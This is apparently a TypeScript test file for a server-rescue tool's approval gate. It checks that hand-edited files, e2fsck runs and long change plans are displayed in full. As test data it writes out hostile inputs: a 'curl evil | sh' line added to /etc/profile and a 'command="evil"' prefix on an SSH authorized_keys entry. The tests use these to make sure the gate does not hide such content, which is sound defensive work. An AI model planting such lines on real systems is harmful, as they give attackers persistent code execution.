import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { catalogues } from '../../core/i18n/catalogue.ts'
import type { Change, ChangeOf } from '../../core/record/changes.ts'
import type { ChangePlan } from '../../core/record/plan.ts'
import { because } from '../../core/record/reasons.ts'
import { listed } from '../../test/helpers/policy.ts'
import { makePublicKey } from '../../test/helpers/public-keys.ts'
import { entriesOf, INSTANCE, opened, RESCUE, requested } from '../../test/helpers/thread-events.ts'
import { diffFile, isKeysFile } from './change-diff.ts'
import { emptyThread, follow } from './thread.ts'
import { isMessage, view } from './view.ts'

const voice = { text: catalogues.en, policy: listed({}), commandPrefix: '!' }
const key = makePublicKey('riya@laptop').line
const owner = { uid: 0, gid: 0 }

function planOf(playbook: string, changes: readonly Change[]): ChangePlan {
  const { id, name } = INSTANCE
  return { gate: 2, playbook, instance: { id, name }, user: null, selinux: false, changes: [...changes] }
}

function written(path: string, before: string, after: string): ChangeOf<'replace-file'> {
  return {
    kind: 'replace-file',
    path,
    before,
    after,
    backup: `${path}.old`,
    mode: '0644',
    owner,
    why: [because('edited-by-hand')],
  }
}

function run(index: number, evidence: string): Change {
  const command = ['/usr/sbin/e2fsck', '-y', `/dev/disk-${index}`]
  const rest = { succeeds: [0, 1], destructive: true, device: null, undo: null, why: [because('edited-by-hand')] }
  return { kind: 'run', command, ...rest, evidence }
}

/** As it stands in the gate, and in the file below it. */
function shown(plan: ChangePlan) {
  const thread = follow(emptyThread(RESCUE), entriesOf([requested(key), opened(plan)]))
  const gate = thread.items.filter(isMessage).find(({ kind }) => kind === 'gate')
  if (gate === undefined) throw new Error('there is no gate')
  const { blocks } = view(voice, thread, gate)
  return { blocks, gate: JSON.stringify(blocks), file: diffFile(RESCUE, plan, thread.state)?.text ?? '' }
}

describe('what is put into a file by hand', () => {
  it.each([
    ['a command beside a key, in a file that is no list of keys', '/etc/profile', `${key}\ncurl evil | sh`],
    ['a command before a key', '/home/opc/.ssh/authorized_keys', `command="evil" ${key}`],
    ['a line that is no key', '/home/opc/.ssh/authorized_keys', `${key}\nevil`],
    ['a command after a name that only looks like it', '/opt/authorized_keys.d/run.sh', 'evil'],
  ])('is shown as it stands there: %s', (_, path, text) => {
    const plan = planOf('edit', [written(path, 'old\n', `old\n${text}\n`)])

    expect(shown(plan).gate).toContain('evil')
  })

  it('is shown as keys when keys are all that is added', () => {
    const plan = planOf('edit', [written('/home/opc/.ssh/authorized_keys', 'a secret\n', `${key}\n`)])

    expect(shown(plan).gate).toContain('SHA256:')
    expect(shown(plan).gate).not.toContain('a secret')
  })

  it('is compared as text when it is more keys than a message shows', () => {
    const many = Array.from({ length: 30 }, (_, index) => makePublicKey(`key-${index}`).line)
    const change = written('/home/opc/.ssh/authorized_keys', '', many.join('\n'))
    const plan = planOf('edit', [change])

    expect(isKeysFile(change, plan)).toBe(false)
    for (const line of many) expect(shown(plan).file).toContain(line)
  })
})

describe('a plan that is longer than a message', () => {
  it('has its buttons, and says where the rest is, whatever it is', () => {
    const attributes = fc.record({ path: fc.string({ minLength: 1, maxLength: 4000 }) }).map(
      ({ path }): Change => ({
        kind: 'set-attributes',
        path: `/${path}`,
        before: { mode: '0777', owner },
        after: { mode: '0755', owner },
        why: [because('edited-by-hand')],
      }),
    )
    const command = fc.tuple(fc.nat(), fc.string({ maxLength: 5000 })).map(([index, evidence]) => run(index, evidence))
    const changes = fc.array(fc.oneof(attributes, command), { minLength: 1, maxLength: 60 })
    fc.assert(
      fc.property(changes, (all) => {
        const { blocks, file } = shown(planOf('fsck', all))
        expect(blocks.filter(({ type }) => type === 'actions')).toHaveLength(1)
        expect(JSON.stringify(blocks)).toContain('Expires')
        const said = blocks.filter((block) => /edited by hand/.test(JSON.stringify(block))).length
        if (said < all.length) for (const change of all) expect(file).toContain(JSON.stringify(change, null, 2))
      }),
      { numRuns: 50 },
    )
  })

  it('has the reports of all file systems, in the message or below it', () => {
    const { gate, file } = shown(
      planOf(
        'fsck',
        [1, 2, 3, 4].map((index) => run(index, `disk-${index} ${'x'.repeat(2150)}`)),
      ),
    )

    expect(gate).toContain('more changes')
    for (const index of [1, 2, 3, 4]) expect(file).toContain(`disk-${index} xxx`)
  })
})
